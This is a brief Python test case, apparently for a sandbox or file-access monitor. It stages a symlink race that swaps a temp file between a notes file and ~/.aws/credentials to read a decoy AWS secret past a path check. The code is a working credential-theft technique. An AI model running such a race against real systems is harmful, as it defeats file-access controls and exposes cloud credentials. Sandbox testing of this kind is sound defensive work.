#: {"class": "race", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import threading
stop = False
def flip():
    while not stop:
        for t in (HOME + "/.aws/credentials", HOME + "/data/id_rsa_notes.md"): os.symlink(t, TMP + "/new"); os.rename(TMP + "/new", TMP + "/w.bin")
os.symlink(HOME + "/data/id_rsa_notes.md", TMP + "/w.bin"); t = threading.Thread(target=flip); t.start()
for i in range(200000):
    d = open(TMP + "/w.bin").read()
    if "DECOY-aws" in d: LOOT(d); break
stop = True; t.join()
